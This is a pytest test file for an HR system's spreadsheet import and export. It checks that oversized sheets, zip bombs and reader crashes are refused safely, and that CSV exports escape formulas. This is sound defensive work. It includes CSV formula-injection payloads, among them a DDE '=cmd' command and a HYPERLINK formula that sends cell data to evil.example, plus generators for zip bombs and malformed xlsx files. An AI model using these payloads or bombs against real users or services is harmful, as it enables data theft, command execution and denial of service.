"""Hostile files: a cell at XFD1048576, a zip bomb, a sheet wider or longer than any real one, formulas in
text cells. Each is refused with a clear message and nothing written; a reader crash stays in a child
process; csv exports never carry a live formula."""

import io
import re
import zipfile

import pytest
import xlsxwriter
from django.core.management import call_command
from django.db import connection

from talenta.core.isolation import ChildDied, isolated
from talenta.core.spreadsheets import csv_safe, write_table
from talenta.imports.models import ImportBatch
from talenta.imports.readers import FileUnusable, read_table
from talenta.imports.services import import_file
from talenta.people.models import Employee
from tests.factories import nip as make_nip
from tests.imports.helpers import PEGAWAI_HEADER, csv_bytes, pegawai_row, xlsx

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3"]


def far_cell(*, with_a1: bool = True, lie: bool = False) -> bytes:
    """An xlsx of a few KB whose one cell sits at XFD1048576 (with A1 filled too, and with its declared
    dimension replaced by ``A1`` when ``lie``)."""
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet()
    if with_a1:
        ws.write(0, 0, "NIP")
    ws.write(1048575, 16383, "x")
    wb.close()
    if not lie:
        return buf.getvalue()
    src, out = zipfile.ZipFile(io.BytesIO(buf.getvalue())), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1"/>', data)
            z.writestr(info, data)
    return out.getvalue()


def zip_bomb(unpacked_mb: int = 40) -> bytes:
    """A well-formed xlsx whose sheet XML is ``unpacked_mb`` MB of one repeated row (packs ~1000 to 1)."""
    good = xlsx([PEGAWAI_HEADER])
    src, out = zipfile.ZipFile(io.BytesIO(good)), io.BytesIO()
    row = b'<row><c t="inlineStr"><is><t>' + b"A" * 200 + b"</t></is></c></row>"
    body = row * (unpacked_mb * 1024 * 1024 // len(row))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb"<sheetData>.*</sheetData>", b"<sheetData>" + body + b"</sheetData>", data, flags=re.S)
                data = re.sub(rb'<dimension ref="[^"]*"/>', b"", data)
            z.writestr(info, data)
    return out.getvalue()


@pytest.mark.parametrize("data", [far_cell(), far_cell(with_a1=False)], ids=["declared", "one-cell"])
@pytest.mark.django_db
def test_a_sheet_reaching_xfd1048576_is_refused_before_it_is_read(region, data):
    assert len(data) < 10_000
    result = import_file(actor=None, kind="pegawai", data=data, filename="p.xlsx")
    assert result.status == "unusable" and result.exit_code == 2
    assert "1048576" in result.message and "baris" in result.message
    assert ImportBatch.objects.get().status == "unusable"
    assert Employee.objects.count() == 3  # the region's own, nothing added


def test_a_reader_that_aborts_takes_down_only_its_child():
    """A lying dimension gets past every check; the native reader then aborts the process it runs in."""
    with pytest.raises(ChildDied) as died:
        isolated(read_table, far_cell(lie=True), "p.xlsx", uses_db=False)
    assert "SIGABRT" in died.value.reason


def test_a_child_over_its_memory_limit_is_reported_not_obeyed():
    def hog() -> int:
        return len(bytearray(2 * 1024**3))

    with pytest.raises(ChildDied) as died:
        isolated(hog, memory_mb=256, uses_db=False)
    assert died.value.reason == "MemoryError"
    assert isolated(lambda: 6 * 7, uses_db=False) == 42  # and a good child answers


@pytest.mark.django_db
def test_a_zip_bomb_is_refused_from_its_directory(region):
    bomb = zip_bomb(40)
    assert len(bomb) < 200_000
    result = import_file(actor=None, kind="pegawai", data=bomb, filename="p.xlsx")
    assert result.status == "unusable" and "kali ukurannya" in result.message


def test_the_limits_are_settings(settings):
    settings.TALENTA_IMPORT_MAX_UNZIPPED_MB = 1
    with pytest.raises(FileUnusable, match="unpacks to"):
        read_table(zip_bomb(2), "p.xlsx")
    settings.TALENTA_IMPORT_MAX_ROWS = 10
    with pytest.raises(FileUnusable, match="row 12"):
        read_table(csv_bytes([PEGAWAI_HEADER] + [pegawai_row("1" * 18, "A")] * 11), "p.csv")
    settings.TALENTA_IMPORT_MAX_ROWS = 1000
    settings.TALENTA_IMPORT_MAX_COLUMNS = 5
    with pytest.raises(FileUnusable, match="column"):
        read_table(xlsx([PEGAWAI_HEADER]), "p.xlsx")
    settings.TALENTA_MAX_UPLOAD_MB = 0
    with pytest.raises(FileUnusable, match="MB"):
        read_table(b"NIP\n1", "p.csv")


@pytest.mark.django_db
def test_the_cli_answers_exit_2_for_a_hostile_file(region, tmp_path, capsys):
    path = tmp_path / "p.xlsx"
    path.write_bytes(far_cell())
    with pytest.raises(SystemExit) as exit_:
        call_command("import", "pegawai", str(path))
    assert exit_.value.code == 2 and "1048576" in capsys.readouterr().err


def test_csv_cells_never_run_as_formulas_and_come_back_as_typed():
    buf = io.BytesIO()
    write_table(buf, ["NAMA", "JP"], [[p, 3.0] for p in PAYLOADS] + [["Siti", -2.5]], "csv")
    text = buf.getvalue().decode("utf-8-sig")
    for line in text.splitlines()[1:-1]:
        assert line.lstrip('"')[0] == "'", line
    assert text.splitlines()[-1] == "Siti,-2.50"  # numbers stay numbers
    rows = read_table(buf.getvalue(), "x.csv").rows
    assert [r[0] for r in rows[1:-1]] == PAYLOADS  # the csv import takes the apostrophe off again
    assert csv_safe("\tx") == "'\tx" and csv_safe("\rx") == "'\rx" and csv_safe("Budi") == "Budi"


def test_xlsx_exports_keep_text_as_text():
    buf = io.BytesIO()
    write_table(buf, ["NAMA"], [[p] for p in PAYLOADS], "xlsx")
    sheet = zipfile.ZipFile(buf).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet


@pytest.mark.django_db
def test_an_exported_formula_payload_round_trips_through_the_csv_import(client, region):
    Employee.objects.filter(pk=region["bpp"].pk).update(major=PAYLOADS[1])
    client.force_login(region["users"]["balikpapan"])
    body = client.get("/ekspor/pegawai.csv").getvalue().decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in body and "\n=cmd" not in body and ",=cmd" not in body


# -- the worker survives a hostile upload (a real worker process; its children need a shared database) --


@pytest.mark.skipif(connection.vendor != "postgresql", reason="the worker process needs the shared PostgreSQL")
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_worker_survives_a_file_that_aborts_the_reader(client, region, settings):
    import subprocess
    import sys
    from pathlib import Path

    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.test_jobs import ROOT, _worker_env

    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    client.force_login(region["users"]["balikpapan"])
    good = xlsx([PEGAWAI_HEADER, pegawai_row(make_nip(), "Ani", KODE_UNIT="64.71.02")])
    for name, data in (("bom.xlsx", far_cell(lie=True)), ("ok.xlsx", good)):
        client.post("/impor/pegawai/", {"file": SimpleUploadedFile(name, data)})
    env = {**_worker_env(), "TALENTA_MEDIA_ROOT": str(settings.MEDIA_ROOT)}
    worker = [str(Path(sys.executable).with_name("talenta")), "worker", "--batch", "--no-startup-delay", "--no-reload"]
    done = subprocess.run(worker, env=env, cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    bad, good = ImportBatch.objects.order_by("pk")
    assert bad.status == "unusable" and "SIGABRT" in bad.message and "rusak" in bad.message
    assert good.status == "previewed", good.message  # the same worker went on to the next file
